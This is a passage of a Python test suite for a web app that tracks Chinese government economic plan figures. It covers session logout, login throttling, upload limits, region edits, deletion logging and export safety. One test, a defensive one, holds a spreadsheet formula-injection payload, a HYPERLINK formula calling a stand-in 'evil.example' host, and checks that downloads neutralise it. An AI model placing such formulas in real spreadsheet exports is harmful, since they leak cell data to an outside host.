    app = create_app(small_books, token=TOKEN)
    user = TestClient(app)
    login(user)
    from_elsewhere = TestClient(app)  # the same browser, its cookie withheld
    doc_id = store.documents(small_books)[0].id
    for url in ("/", f"/doc/{doc_id}", "/documents", "/corrections", "/upload", "/search?q=地区生产总值", "/login"):
        response = from_elsewhere.get(url)
        assert response.status_code == 200, url
        assert "planwatch_session" not in response.headers.get("set-cookie", ""), url
    assert 'data-testid="correction-form"' in user.get(f"/doc/{doc_id}").text


def test_logging_out_ends_the_session_on_the_server(small_books: str) -> None:
    app = create_app(small_books, token=TOKEN)
    client = TestClient(app)
    login(client)
    old_cookie = client.cookies.get("planwatch_session")
    figure = store.figures(small_books, kind="target")[0]
    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    replay = TestClient(app)  # someone who kept the cookie and the token
    replay.cookies.set("planwatch_session", old_cookie)
    response = replay.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
                                             "value": "1", "why": "after logout"})
    assert response.status_code == 401
    assert 'data-testid="correction-form"' not in replay.get(f"/doc/{figure.doc_id}").text
    assert not store_corrections(small_books)


def test_login_makes_a_guesser_wait_longer_each_time(small_books: str) -> None:
    from planwatch.web.auth import FREE_TRIES

    app = create_app(small_books, token=TOKEN)
    now = [1000.0]
    app.state.login_throttle.clock = lambda: now[0]
    client = TestClient(app)
    csrf = _csrf(client.get("/login").text)

    def attempt(token: str):  # type: ignore[no-untyped-def]
        return client.post("/login", data={"csrf_token": csrf, "name": "猜", "token": token, "next": "/"},
                           follow_redirects=False)

    for _ in range(FREE_TRIES):
        assert attempt("guess").status_code == 401
    refused = attempt(TOKEN)  # even the right token waits: the lock is checked first
    assert refused.status_code == 429 and refused.headers["retry-after"] == "1"
    now[0] += 1
    assert attempt("guess").status_code == 401
    assert attempt(TOKEN).headers["retry-after"] == "2"
    now[0] += 2
    assert attempt(TOKEN).status_code == 303
    assert attempt("guess").status_code == 401  # a success forgets the failures


def test_upload_through_the_form(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    assert 'data-testid="upload-form"' not in client.get("/upload").text
    login(client)
    page = client.get("/upload").text
    assert 'data-testid="upload-form"' in page
    before = {r["name"]: r for r in client.get("/api/regions").json()["rows"]}  # the overview caches this
    response = client.post("/upload", data={"csrf_token": _csrf(page), "year": "2025"}, files=[
        ("files", ("澜泽市2025年计划.txt", "澜泽市2025年国民经济和社会发展计划\n地区生产总值增长5.5%左右。\n".encode(),
                   "text/plain")),
        ("files", ("empty.txt", b"", "text/plain"))])
    assert response.status_code == 200
    statuses = dict(re.findall(r'<tr data-status="(\w+)">\s*<td>(?:<a href="[^"]*">)?([^<]+)', response.text))
    assert statuses.get("stored") == "澜泽市2025年计划.txt"
    assert "failed" in statuses
    assert len(store.documents(small_books)) == len(EXAMPLES) + 1
    after = {r["name"]: r for r in client.get("/api/regions").json()["rows"]}  # a new document drops the cache
    assert after["澜泽市"]["documents"] == before["澜泽市"]["documents"] + 1


# ---- what one document may cost ---------------------------------------------------------------------

def test_a_hostile_upload_at_the_size_limit_is_refused_and_leaves_the_pages_fast(small_books: str) -> None:
    """Issue 9: a 19 MB text gave 485 924 figures, then `/api/scorecard` took 29 s and `/doc/N` never
    finished. A text at the byte limit is refused for its length, with the reason, and the pages anyone
    can open answer as before: nothing of it is stored to make them slower (their time at scale is
benchmarks/serve_load.py's)."""
    from planwatch.load.limits import MAX_TEXT_BYTES

    line = "包头市2024年地区生产总值增长6.5%左右，城镇新增就业3万人以上。\n".encode()
    hostile = line * (MAX_TEXT_BYTES // len(line))
    client = TestClient(create_app(small_books, token=TOKEN))
    before = {url: client.get(url).json() for url in ("/api/scorecard", "/api/documents")}
    response = client.post("/api/upload", headers={"Authorization": f"Bearer {TOKEN}"},
                           files=[("files", ("hostile.txt", hostile, "text/plain"))])
    [outcome] = response.json()["outcomes"]
    assert outcome["status"] == "failed" and "over the 1,000,000-character limit" in outcome["reason"]
    assert len(store.documents(small_books)) == len(EXAMPLES)
    assert client.get("/").status_code == 200
    assert {url: client.get(url).json() for url in before} == before  # the books, and what pages cost, unchanged


@pytest.fixture
def long_document(db_url: str) -> tuple[str, int]:
    """A stored document of 150 000 characters with 3 000 figures spread over it."""
    from sqlalchemy.orm import Session

    from planwatch.models import Document, DocumentFacts
    from planwatch.store.db import get_engine, writer
    from planwatch.store.write import store_document

    sentence = "地区生产总值增长6.5%左右。\n"
    text = sentence * (150_000 // len(sentence))
    step = len(text) // 3000 // len(sentence) * len(sentence)
    figures = [Figure(indicator="gdp", label="地区生产总值", measure="growth", value=Decimal("6.5"), unit="%",
                      op="approx", kind="target", year=2024, region="九原区", quote="6.5%左右",
                      start=i * step + 8, end=i * step + 14) for i in range(3000)]
    document = Document(text=text, name="long.txt", sha256="f" * 64,
                        facts=DocumentFacts(region="九原区", doc_type="plan_notice", plan_year=2024))
    with Session(writer(get_engine(db_url))) as session, session.begin():
        doc_id = store_document(session, document, figures, engine_version="test")
    return db_url, doc_id


def test_a_long_document_is_shown_a_part_and_a_page_at_a_time(long_document: tuple[str, int]) -> None:
    from planwatch.web.views.document import FIGURES_PER_PAGE, TEXT_WINDOW

    db, doc_id = long_document
    client = TestClient(create_app(db))
    page = client.get(f"/doc/{doc_id}").text
    assert 'data-testid="text-parts"' in page and len(_text_of(_document_text_div(page))) <= TEXT_WINDOW
    shown = set(re.findall(r'data-figure-ids="(\d+)"', page))
    listed = re.findall(r'<tr data-figure-id="(\d+)"', page)
    assert 0 < len(shown) < 3000 and len(listed) == FIGURES_PER_PAGE
    data_block = json.loads(re.search(r'id="figure-data">(.*?)</script>', page, re.S).group(1))
    assert len(data_block) < 3000
    last = store.figures(db, doc_id=doc_id)[-1]
    opened = client.get(f"/doc/{doc_id}?figure={last.id}").text  # opens the part that quotes it
    assert f'id="f{last.id}"' in opened and f'data-figure-id="{last.id}"' in opened
    parts = re.search(r"共(\d+)部分", opened).group(1)
    assert f"正文第{parts}部分" in opened
    body = client.get(f"/api/doc/{doc_id}/figures").json()
    assert body["total"] == 3000 and len(body["rows"]) == 1000 and body["next"]
    assert client.get(f"/doc/{doc_id}?part=99").status_code == 400


# ---- amending documents: regions from the gazetteer, region changed later, deletion -------------------

def test_an_upload_region_must_be_a_place_of_the_gazetteer(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    text = "2025年国民经济和社会发展计划\n2025年地区生产总值增长6%左右。\n".encode()
    for region, hint in (("测试/县", "is not a region of the gazetteer"), ("九原县", "did you mean")):
        response = client.post("/api/upload", headers=bearer, data={"region": region},
                               files=[("files", ("plan.txt", text, "text/plain"))])
        assert response.status_code == 400 and hint in response.json()["detail"], region
    assert len(store.documents(small_books)) == len(EXAMPLES)


def test_a_region_given_at_upload_can_be_changed_later_and_is_logged(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    text = "2025年国民经济和社会发展计划\n一、主要预期目标\n地区生产总值增长6%左右。\n".encode()
    uploaded = client.post("/api/upload", headers=bearer, data={"region": "九原区", "year": "2025"},
                           files=[("files", ("plan.txt", text, "text/plain"))]).json()["outcomes"][0]
    doc_id = uploaded["doc_id"]
    assert store.get_document(small_books, doc_id).facts.region == "九原区"
    assert client.post(f"/api/doc/{doc_id}/region", json={"region": "昆都仑区", "why": "x"}).status_code == 401
    assert client.post(f"/api/doc/{doc_id}/region", headers=bearer,
                       json={"region": "测试/县", "why": "typo"}).status_code == 400
    changed = client.post(f"/api/doc/{doc_id}/region", headers=bearer,
                          json={"region": "包头市昆都仑区", "why": "上传时选错了地区", "author": "李四"})
    assert changed.status_code == 200, changed.text
    document = store.get_document(small_books, doc_id)
    assert (document.facts.region, document.overrides["region"]) == ("昆都仑区", "昆都仑区")
    assert {r.figure.region for r in store.figures(small_books, doc_id=doc_id)} <= {"昆都仑区", None}
    [logged] = client.get("/api/corrections").json()["rows"]
    assert (logged["field"], logged["old"], logged["new"], logged["author"], logged["why"]) == \
        ("region", "九原区", "昆都仑区", "李四", "上传时选错了地区")
    login(client)
    csrf = _csrf(client.get(f"/doc/{doc_id}").text)
    response = client.post(f"/doc/{doc_id}/region", data={"csrf_token": csrf, "region": "", "why": "按正文"},
                           follow_redirects=False)
    assert response.status_code == 303
    assert "region" not in store.get_document(small_books, doc_id).overrides  # the text decides again


def test_a_document_can_be_deleted_with_its_figures_and_it_is_logged(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    first, second = store.documents(small_books)[:2]
    assert client.request("DELETE", f"/api/doc/{first.id}", json={"why": "x"}).status_code == 401
    gone = client.request("DELETE", f"/api/doc/{first.id}", headers=bearer, json={"why": "重复的文件"})
    assert gone.status_code == 200 and gone.json() == {"deleted": first.id, "name": first.name, "restored": []}
    assert client.get(f"/doc/{first.id}").status_code == 404
    assert store.figures(small_books, doc_id=first.id) == []
    assert client.request("DELETE", f"/api/doc/{first.id}", headers=bearer, json={"why": "again"}).status_code == 404
    login(client)
    csrf = _csrf(client.get(f"/doc/{second.id}").text)
    assert 'data-testid="delete-form"' in client.get(f"/doc/{second.id}").text
    response = client.post(f"/doc/{second.id}/delete", data={"csrf_token": csrf, "why": "不是本地区的"},
                           follow_redirects=False)
    assert response.status_code == 303 and store.get_document(small_books, second.id) is None
    log = client.get("/api/corrections").json()["rows"]
    assert [(r["field"], r["old"], r["new"], r["why"]) for r in log] == [
        ("document", second.name, None, "不是本地区的"), ("document", first.name, None, "重复的文件")]
    assert len(store.documents(small_books)) == len(EXAMPLES) - 2


# ---- absurd values and formula cells -------------------------------------------------------------------

def test_absurd_corrections_are_400_through_the_form_and_the_api(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    figure = store.figures(small_books, kind="target")[0]
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    for changes in ({"value": "1e999999"}, {"value": "NaN"}, {"unit": "=1+1"}, {"op": "about"},
                    {"year": "20240"}, {"region": "测试/县"}):
        response = client.post(f"/api/figure/{figure.id}/corrections", headers=bearer,
                               json={"changes": changes, "why": "试一试"})
        assert response.status_code == 400, changes
    login(client)
    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
    response = client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
                                             "value": "1e999999", "why": "试一试"})
    assert response.status_code == 400 and "more than 15 digits before the point" in response.text
    assert not store_corrections(small_books)
    assert client.get("/api/scorecard").status_code == 200


def test_downloads_never_start_a_formula(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    figure = store.figures(small_books, kind="target", indicator="gdp")[0]
    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    response = client.post(f"/api/figure/{figure.id}/corrections", headers={"Authorization": f"Bearer {TOKEN}"},
                           json={"changes": {"label": "@SUM(1,2)", "value": "-2.5"}, "why": reason})
    assert response.status_code == 201
    log = list(csv.DictReader(io.StringIO(client.get("/api/corrections?format=csv&lang=en").text)))
    assert {row["why"] for row in log} == {"'" + reason}
    figures = list(csv.DictReader(io.StringIO(client.get(f"/api/figures?doc_id={figure.doc_id}&format=csv&lang=en").text)))
    fixed = next(row for row in figures if row["id"] == str(figure.id))
    assert (fixed["label"], fixed["value"]) == ("'@SUM(1,2)", "-2.5")  # text neutralised, the number kept
    sheet = load_workbook(io.BytesIO(client.get("/api/corrections?format=xlsx&lang=en").content)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("why")] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {reason} and {c.data_type for c in cells} == {"s"}


# ---- the views people come for ----------------------------------------------------------------------

def test_the_indicator_index_counts_governments_and_years(client: TestClient, books: str) -> None:
    rows = {r["indicator"]: r for r in client.get("/api/indicators").json()["rows"]}
    gdp = store.figures(books, indicator="gdp")
    assert rows["gdp"]["governments"] == len({r.figure.region or r.region for r in gdp})
    assert rows["gdp"]["years"] == len({r.figure.year for r in gdp if r.figure.year is not None})
    page = client.get("/indicators").text
    assert 'data-testid="indicator-index"' in page and 'href="/indicator/gdp"' in page


def test_the_indicator_table_filters_sorts_and_counts(client: TestClient) -> None:
    everything = client.get("/api/indicator/gdp?year=2024").json()
    levels = Counter(r["level"] or "unknown" for r in everything["rows"])
    assert everything["facets"]["level"] == dict(levels)
    counties = client.get("/api/indicator/gdp?year=2024&level=county").json()["rows"]
    assert counties and len(counties) == levels["county"] and {r["level"] for r in counties} == {"county"}
    by_target = client.get("/api/indicator/gdp?year=2024&sort=target&desc=true").json()["rows"]
    values = [r["target"]["value"] for r in by_target if r["target"]["value"] is not None]
    assert values == sorted(values, reverse=True)
    assert client.get("/api/indicator/gdp?year=2024&sort=nonsense").status_code == 400
    page = client.get("/indicator/gdp?year=2024&level=county").text
    assert 'data-testid="facet-level"' in page and 'data-testid="indicator-trend"' in page


def test_the_comparison_page_puts_each_child_beside_its_parent(client: TestClient) -> None:
    rows = client.get("/api/indicator/gdp?year=2024").json()["rows"]
    paired = [r for r in rows if r["parent_target"] is not None]
    assert paired
    page = client.get("/compare?year=2024&indicator=gdp").text
    for row in paired:
        assert f'data-region="{row["region"]}"' in page
    escalating = [r["region"] for r in paired if r["escalates"]]
    only = client.get("/compare?year=2024&indicator=gdp&escalating=true").text
    assert only.count('data-escalates="true"') == len(escalating)
    assert 'data-escalates="false"' not in only


def test_a_region_with_no_document_of_its_own_shows_its_children(client: TestClient) -> None:
    page = client.get("/region/内蒙古自治区")  # the parent of 包头市 and 乌海市 in the gazetteer
    assert page.status_code == 200
    assert 'data-testid="no-documents"' in page.text and "包头市" in page.text and "乌海市" in page.text
    below = client.get("/api/region/包头市").json()["gazetteer_children"]  # linked from 包头市's page
    assert below and client.get(f"/region/{below[0]}").status_code == 200
    assert client.get("/region/无此地").status_code == 404


def test_verdicts_say_their_gap_in_units_and_their_rule(client: TestClient) -> None:
    page = client.get("/region/包头市").text
    assert 'data-testid="verdict-why"' in page and "按下限" in page
    assert re.search(r'data-testid="gap">差距 [+−]\d+(\.\d+)?个百分点', page)


def test_no_raw_code_in_the_chinese_pages(client: TestClient, books: str) -> None:
    doc = next(d for d in store.documents(books) if d.facts.region == "九原区")
    other = next(r for r in store.figures(books, doc_id=doc.id) if r.figure.indicator == "other")
    page = client.get(f"/doc/{doc.id}?figure={other.id}").text
    panel = page[page.index('data-testid="figure-detail"'):page.index("</aside>")]
    assert f'<dd data-field="indicator">{html.escape(other.figure.label)}</dd>' in panel
    assert not re.search(r'data-field="(measure|op)">(growth|level|change_pp|approx|ge|gt|le|lt|eq)<', panel)
    figure_table = page[page.index('data-testid="figure-table"'):]
    assert ">other<" not in figure_table


def test_documents_filter_by_facets_with_counts(client: TestClient, books: str) -> None:
    everything = client.get("/api/documents").json()
    types = Counter(d.facts.doc_type for d in store.documents(books))
    assert everything["facets"]["doc_type"] == dict(types)
    kind, n = types.most_common(1)[0]
    narrowed = client.get(f"/api/documents?doc_type={kind}").json()
    assert narrowed["total"] == n and {d["doc_type"] for d in narrowed["rows"]} == {kind}
    page = client.get("/documents?sort=published&desc=true").text
    assert 'data-testid="facet-doc_type"' in page and 'data-sort="published"' in page


def test_search_knows_the_catalogs_synonyms_and_narrows(client: TestClient, books: str) -> None:
    body = client.get("/api/search?q=GDP&year=2024&kind=target").json()
    assert body["indicators"] == ["gdp"]
    expected = [r for r in store.figures(books, indicator="gdp", year=2024, kind="target")]
    assert body["figures"]["total"] == len(expected) > 0
    first = body["figures"]["rows"][0]
    assert first["indicator"] == "gdp" and first["kind"] == "target" and first["year"] == 2024
    assert first["verdict_url"].endswith(f"#v-2024-gdp-{first['measure']}") and first["text"]
    assert client.get("/api/search?q=社零").json()["indicators"] == ["retail_sales"]
    assert client.get("/api/search?q=规上工业").json()["indicators"] == ["industrial_va"]
    assert client.get("/api/search?q=就业").json()["indicators"] == []
    ops = {r["op"] for r in client.get("/api/search?q=GDP&per_page=100").json()["figures"]["rows"]}
    assert "approx" in ops  # and the page writes it: 6%左右, not 6
    assert "左右" in client.get("/search?q=GDP&kind=target").text
    assert client.get("/api/search?q=GDP&kind=nonsense").status_code == 400
